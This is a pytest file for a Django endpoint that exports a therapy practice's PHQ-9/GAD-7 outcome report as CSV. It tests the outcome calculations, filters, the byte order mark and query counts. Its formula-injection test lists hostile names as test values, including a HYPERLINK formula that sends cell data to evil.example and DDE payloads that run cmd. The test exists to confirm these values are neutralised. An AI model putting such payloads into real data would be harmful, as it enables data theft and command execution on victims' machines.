"""GET /reports/outcomes/: practice outcomes for service evaluation as CSV, one row per client
and instrument (first vs latest non-void administration) with the client's paired PHQ-9/GAD-7
outcomes, checked against hand-built data; booleans as true/false; filters by clinician, status
and administration dates; an optional UTF-8 byte order mark; spreadsheet-safe client names; and
a fixed number of queries however many clients there are. Who sees which rows: see
test_report_access.py."""

import csv
import datetime

import pytest

from tests.factories import ClientFactory, UserFactory
from tests.helpers import assert_problem
from tests.reports.conftest import EXPECTED_OUTCOMES, OUTCOMES, body, read_csv, void

pytestmark = pytest.mark.django_db

INSTRUMENT_COLUMNS = [
    "client_id",
    "client_name",
    "instrument",
    "administrations",
    "baseline",
    "latest",
    "change",
    "reliable_change",
    "no_longer_a_case",
]
PAIRED_COLUMNS = [
    "paired_status",
    "paired_baseline_on",
    "paired_baseline_phq9",
    "paired_baseline_gad7",
    "paired_latest_on",
    "paired_latest_phq9",
    "paired_latest_gad7",
    "caseness_at_baseline",
    "recovery",
    "reliable_improvement",
    "reliable_deterioration",
    "reliable_recovery",
]
COLUMNS = INSTRUMENT_COLUMNS + PAIRED_COLUMNS
OUTCOME_FIELDS = INSTRUMENT_COLUMNS[3:]
NOT_APPLICABLE = dict.fromkeys(PAIRED_COLUMNS, "")


def outcomes(response) -> dict[tuple[str, str], tuple]:
    """The per-instrument columns of the outcomes CSV keyed by (client id, instrument), after
    checking the response is a CSV attachment with the right header and no repeated key."""
    assert response.status_code == 200, body(response)
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    header, rows = read_csv(response)
    assert header == COLUMNS
    keyed = {
        (row["client_id"], row["instrument"]): tuple(row[f] for f in OUTCOME_FIELDS) for row in rows
    }
    assert len(keyed) == len(rows), rows
    return keyed


def paired(response) -> dict[str, dict]:
    """The paired outcome columns by client id, after checking each client's rows agree."""
    _, rows = read_csv(response)
    by_client: dict[str, dict] = {}
    for row in rows:
        columns = {name: row[name] for name in PAIRED_COLUMNS}
        assert by_client.setdefault(row["client_id"], columns) == columns, rows
    return by_client


def names(response) -> dict[str, str]:
    _, rows = read_csv(response)
    return {row["client_id"]: row["client_name"] for row in rows}


def test_outcomes_rows_match_the_hand_built_history(history, clinician, as_user):
    rows = outcomes(as_user(clinician).get(OUTCOMES))

    client_id = str(history.client.pk)
    assert rows == {(client_id, code): row for code, row in EXPECTED_OUTCOMES.items()}


def test_outcomes_name_the_client(history, clinician, as_user):
    response = as_user(clinician).get(OUTCOMES)

    assert names(response) == {str(history.client.pk): "Harriet Quinlan"}


def test_outcomes_of_a_single_administration_are_insufficient_data(clinician, record, as_user):
    client = ClientFactory(primary_clinician=clinician)
    record(client, "phq9", 14, datetime.date(2025, 2, 1))
    record(client, "roots5", 12, datetime.date(2025, 2, 2))

    rows = outcomes(as_user(clinician).get(OUTCOMES))

    assert rows == {
        (str(client.pk), "phq9"): ("1", "14", "14", "", "insufficient_data", ""),
        (str(client.pk), "roots5"): ("1", "12", "12", "", "not_applicable", ""),
    }


def test_outcomes_of_deterioration_and_of_a_non_case_at_baseline(clinician, record, as_user):
    client = ClientFactory(primary_clinician=clinician)
    # PHQ-9 4 -> 16: +12, reliably worse; not a case at baseline, so caseness does not apply.
    record(client, "phq9", 4, datetime.date(2025, 2, 1))
    record(client, "phq9", 16, datetime.date(2025, 4, 1))
    # RSES 24 -> 19: -5 (higher is better), under the 6-point threshold; not a case at baseline.
    record(client, "rses", 24, datetime.date(2025, 2, 1))
    record(client, "rses", 19, datetime.date(2025, 4, 1))
    # GAD-7 9 -> 4: -5, reliably better (4 points), a case (>= 8) and no longer one.
    record(client, "gad7", 9, datetime.date(2025, 2, 1))
    record(client, "gad7", 6, datetime.date(2025, 3, 1))
    record(client, "gad7", 4, datetime.date(2025, 4, 1))

    rows = outcomes(as_user(clinician).get(OUTCOMES))

    assert rows == {
        (str(client.pk), "phq9"): ("2", "4", "16", "12", "deteriorated", ""),
        (str(client.pk), "rses"): ("2", "24", "19", "-5", "no_reliable_change", ""),
        (str(client.pk), "gad7"): ("3", "9", "4", "-5", "improved", "true"),
    }


def test_outcomes_leave_out_voided_administrations_and_clients_with_only_voided_ones(
    clinician, record, as_user
):
    client = ClientFactory(primary_clinician=clinician)
    void(record(client, "phq9", 24, datetime.date(2025, 1, 1)))
    record(client, "phq9", 18, datetime.date(2025, 2, 1))
    void(record(client, "phq9", 2, datetime.date(2025, 3, 1)))
    record(client, "phq9", 8, datetime.date(2025, 4, 1))
    only_voided = ClientFactory(primary_clinician=clinician)
    void(record(only_voided, "gad7", 15, datetime.date(2025, 1, 1)))
    no_records = ClientFactory(primary_clinician=clinician)

    rows = outcomes(as_user(clinician).get(OUTCOMES))

    assert rows == {(str(client.pk), "phq9"): ("2", "18", "8", "-10", "improved", "true")}
    assert str(only_voided.pk) not in {key[0] for key in rows}
    assert str(no_records.pk) not in {key[0] for key in rows}


# --- Paired outcomes (PHQ-9 with GAD-7) ---------------------------------------------------------


def test_paired_outcomes_of_the_hand_built_history_are_its_worked_example(
    history, clinician, as_user
):
    # Pairs: PHQ-9 18 (6 Jan) with GAD-7 12 (7 Jan), and PHQ-9 8 (3 Mar) with GAD-7 9 (4 Mar);
    # the February PHQ-9 has no GAD-7 within 7 days, and the voided GAD-7 of 5 Jan is left out.
    rows = paired(as_user(clinician).get(OUTCOMES))

    assert rows == {
        str(history.client.pk): {
            "paired_status": "assessed",
            "paired_baseline_on": "2025-01-06",
            "paired_baseline_phq9": "18",
            "paired_baseline_gad7": "12",
            "paired_latest_on": "2025-03-03",
            "paired_latest_phq9": "8",
            "paired_latest_gad7": "9",
            "caseness_at_baseline": "true",
            "recovery": "false",
            "reliable_improvement": "true",
            "reliable_deterioration": "false",
            "reliable_recovery": "false",
        }
    }


def test_paired_outcomes_of_reliable_recovery_deterioration_and_no_pairs(
    clinician, record, as_user
):
    recovered = ClientFactory(primary_clinician=clinician)
    record(recovered, "phq9", 12, datetime.date(2025, 1, 6))
    record(recovered, "gad7", 9, datetime.date(2025, 1, 6))
    record(recovered, "phq9", 9, datetime.date(2025, 3, 3))
    record(recovered, "gad7", 5, datetime.date(2025, 3, 3))
    worse = ClientFactory(primary_clinician=clinician)
    record(worse, "phq9", 4, datetime.date(2025, 1, 6))
    record(worse, "gad7", 3, datetime.date(2025, 1, 6))
    record(worse, "phq9", 10, datetime.date(2025, 3, 3))
    record(worse, "gad7", 4, datetime.date(2025, 3, 3))
    one_pair = ClientFactory(primary_clinician=clinician)
    record(one_pair, "phq9", 15, datetime.date(2025, 1, 6))
    record(one_pair, "gad7", 6, datetime.date(2025, 1, 13))
    phq9_only = ClientFactory(primary_clinician=clinician)
    record(phq9_only, "phq9", 15, datetime.date(2025, 1, 6))
    record(phq9_only, "phq9", 5, datetime.date(2025, 3, 3))

    rows = paired(as_user(clinician).get(OUTCOMES))

    outcome_columns = PAIRED_COLUMNS[-5:]
    assert [rows[str(recovered.pk)][c] for c in outcome_columns] == [
        "true", "true", "true", "false", "true",
    ]  # fmt: skip
    # Not a case at baseline: no recovery, but PHQ-9 up 6 is a reliable deterioration.
    assert [rows[str(worse.pk)][c] for c in outcome_columns] == [
        "false", "", "false", "true", "",
    ]  # fmt: skip
    assert rows[str(one_pair.pk)] == {
        **NOT_APPLICABLE,
        "paired_status": "insufficient_data",
        "paired_baseline_on": "2025-01-06",
        "paired_baseline_phq9": "15",
        "paired_baseline_gad7": "6",
        "caseness_at_baseline": "true",
    }
    assert rows[str(phq9_only.pk)] == NOT_APPLICABLE


def test_paired_outcomes_use_only_administrations_in_the_date_range(history, clinician, as_user):
    response = as_user(clinician).get(f"{OUTCOMES}?administered_after=2025-01-07")

    # The January PHQ-9 is out of range, so the January GAD-7 has no partner: one pair left.
    rows = paired(response)
    assert rows[str(history.client.pk)]["paired_status"] == "insufficient_data"
    assert rows[str(history.client.pk)]["paired_baseline_on"] == "2025-03-03"


# --- Filters -------------------------------------------------------------------------------


@pytest.fixture
def caseload(supervisor, clinician, practice, record):
    """Clients visible to `supervisor`: one of their own (active), one of `clinician`'s
    (active), one of `clinician`'s (discharged), and one of an unsupervised clinician where
    `clinician` is on the care team. Each took PHQ-9 twice, in January and in March 2025, and
    GAD-7 once, in February."""
    other = UserFactory(practice=practice)
    clients = {
        "own": ClientFactory(primary_clinician=supervisor),
        "supervisee": ClientFactory(primary_clinician=clinician),
        "discharged": ClientFactory(
            primary_clinician=clinician,
            status="discharged",
            discharged_on=datetime.date(2025, 4, 1),
        ),
        "care_team": ClientFactory(primary_clinician=other, care_team=[clinician]),
    }
    for client in clients.values():
        record(client, "phq9", 20, datetime.date(2025, 1, 10))
        record(client, "gad7", 10, datetime.date(2025, 2, 10))
        record(client, "phq9", 9, datetime.date(2025, 3, 10))
    return clients


def client_ids(rows) -> set[str]:
    return {client_id for client_id, _ in rows}


def test_outcomes_of_the_supervisor_cover_their_own_and_their_supervisees_clients(
    caseload, supervisor, as_user
):
    rows = outcomes(as_user(supervisor).get(OUTCOMES))

    assert client_ids(rows) == {str(c.pk) for c in caseload.values()}
    assert len(rows) == 2 * len(caseload)


def test_outcomes_filtered_by_clinician_include_the_care_team(
    caseload, supervisor, clinician, as_user
):
    rows = outcomes(as_user(supervisor).get(f"{OUTCOMES}?clinician={clinician.pk}"))

    assert client_ids(rows) == {
        str(caseload[name].pk) for name in ("supervisee", "discharged", "care_team")
    }


def test_outcomes_filtered_by_status(caseload, supervisor, as_user):
    api = as_user(supervisor)

    discharged = outcomes(api.get(f"{OUTCOMES}?status=discharged"))
    active = outcomes(api.get(f"{OUTCOMES}?status=active"))

    assert client_ids(discharged) == {str(caseload["discharged"].pk)}
    assert client_ids(active) == {
        str(caseload[name].pk) for name in ("own", "supervisee", "care_team")
    }


def test_outcomes_filtered_by_clinician_and_status_together(
    caseload, supervisor, clinician, as_user
):
    rows = outcomes(as_user(supervisor).get(f"{OUTCOMES}?clinician={clinician.pk}&status=active"))

    assert client_ids(rows) == {str(caseload[name].pk) for name in ("supervisee", "care_team")}


def test_outcomes_filtered_by_administration_dates_use_only_those_in_range(
    caseload, supervisor, as_user
):
    api = as_user(supervisor)
    client_id = str(caseload["own"].pk)

    from_february = outcomes(api.get(f"{OUTCOMES}?administered_after=2025-02-01"))
    until_february = outcomes(api.get(f"{OUTCOMES}?administered_before=2025-02-28"))
    february = outcomes(
        api.get(f"{OUTCOMES}?administered_after=2025-02-01&administered_before=2025-02-28")
    )
    nothing = outcomes(api.get(f"{OUTCOMES}?administered_after=2025-06-01"))

    # From February the PHQ-9 baseline is March's 9: one administration, no change yet.
    assert from_february[(client_id, "phq9")] == ("1", "9", "9", "", "insufficient_data", "")
    assert from_february[(client_id, "gad7")] == ("1", "10", "10", "", "insufficient_data", "")
    assert until_february[(client_id, "phq9")] == ("1", "20", "20", "", "insufficient_data", "")
    assert {instrument for _, instrument in february} == {"gad7"}
    assert len(february) == len(caseload)
    assert nothing == {}


def test_outcomes_date_filters_include_the_boundary_days(caseload, supervisor, as_user):
    rows = outcomes(
        as_user(supervisor).get(
            f"{OUTCOMES}?administered_after=2025-01-10&administered_before=2025-03-10"
        )
    )

    assert rows[(str(caseload["own"].pk), "phq9")] == ("2", "20", "9", "-11", "improved", "true")


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("clinician=not-a-uuid", "clinician"),
        ("status=archived", "status"),
        ("administered_after=yesterday", "administered_after"),
        ("administered_before=2025-13-01", "administered_before"),
    ],
)
def test_outcomes_with_an_invalid_filter_is_400_naming_it(query, field, clinician, as_user):
    response = as_user(clinician).get(f"{OUTCOMES}?{query}")

    assert_problem(response, 400, field)


@pytest.mark.parametrize(
    "request_kwargs",
    [
        {"QUERY_STRING": "format=pdf"},
        {"QUERY_STRING": "format="},
        {"HTTP_ACCEPT": "application/json"},
    ],
    ids=["format=pdf", "format=", "accept-json"],
)
def test_outcomes_in_a_format_other_than_csv_is_406(request_kwargs, clinician, as_user):
    response = as_user(clinician).get(OUTCOMES, **request_kwargs)

    problem = assert_problem(response, 406)
    assert "text/csv" in problem["detail"]


def test_outcomes_are_chosen_by_accept_text_csv(history, clinician, as_user):
    response = as_user(clinician).get(OUTCOMES, HTTP_ACCEPT="text/csv")

    assert len(outcomes(response)) == len(EXPECTED_OUTCOMES)


# --- Byte order mark -----------------------------------------------------------------------------

BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize("value", ["1", "true"])
def test_outcomes_with_bom_start_with_the_utf8_byte_order_mark(value, clinician, record, as_user):
    client = ClientFactory(primary_clinician=clinician, given_name="Zoë", family_name="Ångström")
    record(client, "phq9", 14, datetime.date(2025, 2, 1))

    response = as_user(clinician).get(f"{OUTCOMES}?bom={value}")

    assert response.status_code == 200
    assert response.streaming
    content = body(response)
    assert content.startswith(BOM + b"client_id,")
    assert "Zoë Ångström".encode() in content
    header, *rows = csv.reader(content.decode("utf-8-sig").splitlines())
    assert header == COLUMNS
    assert len(rows) == 1


@pytest.mark.parametrize("query", ["", "?bom=0", "?bom=false"])
def test_outcomes_without_bom_start_with_the_header(query, clinician, record, as_user):
    record(ClientFactory(primary_clinician=clinician), "phq9", 14, datetime.date(2025, 2, 1))

    response = as_user(clinician).get(f"{OUTCOMES}{query}")

    assert response.status_code == 200
    content = body(response)
    assert content.startswith(b"client_id,")
    assert len(content.decode("utf-8").splitlines()) == 2  # the header and one row


@pytest.mark.parametrize("value", ["yes", "TRUE", "2", ""])
def test_outcomes_with_a_bom_other_than_yes_or_no_is_400_naming_it(value, clinician, as_user):
    response = as_user(clinician).get(f"{OUTCOMES}?bom={value}")

    assert_problem(response, 400, "bom")


# --- Formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "given_name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab"],
)
def test_outcomes_client_names_cannot_run_as_spreadsheet_formulas(
    given_name, clinician, record, as_user
):
    client = ClientFactory(primary_clinician=clinician, given_name=given_name, family_name="Roe")
    record(client, "phq9", 10, datetime.date(2025, 2, 1))

    response = as_user(clinician).get(OUTCOMES)

    assert names(response)[str(client.pk)] == f"'{given_name} Roe"


def test_outcomes_leave_ordinary_names_as_they_are(clinician, record, as_user):
    client = ClientFactory(
        primary_clinician=clinician, given_name="Anne-Marie", family_name="O'Neil"
    )
    record(client, "phq9", 10, datetime.date(2025, 2, 1))

    response = as_user(clinician).get(OUTCOMES)

    assert names(response)[str(client.pk)] == "Anne-Marie O'Neil"


# --- Cost ----------------------------------------------------------------------------------

# One query for the visible clients, one for which of them the report covers (the audit trail
# records each), one for their non-void administrations, one insert of the export's events.
OUTCOMES_QUERIES = 4


@pytest.mark.parametrize("query", ["", "?bom=1"])
@pytest.mark.parametrize("clients", [1, 10])
def test_outcomes_cost_a_fixed_number_of_queries(
    clients, query, clinician, practice, record, as_user, django_assert_num_queries
):
    for index in range(clients):
        client = ClientFactory(
            primary_clinician=clinician, care_team=[UserFactory(practice=practice)]
        )
        record(client, "phq9", 15, datetime.date(2025, 1, 1 + index))
        record(client, "phq9", 7, datetime.date(2025, 2, 1 + index))
        record(client, "gad7", 11, datetime.date(2025, 1, 1 + index))
        record(client, "gad7", 6, datetime.date(2025, 2, 1 + index))
    api = as_user(clinician)

    with django_assert_num_queries(OUTCOMES_QUERIES):
        response = api.get(f"{OUTCOMES}{query}")
        content = body(response)

    assert response.streaming
    rows = list(csv.DictReader(content.decode("utf-8-sig").splitlines()))

    assert len(rows) == 2 * clients
    assert {row["paired_status"] for row in rows} == {"assessed"}
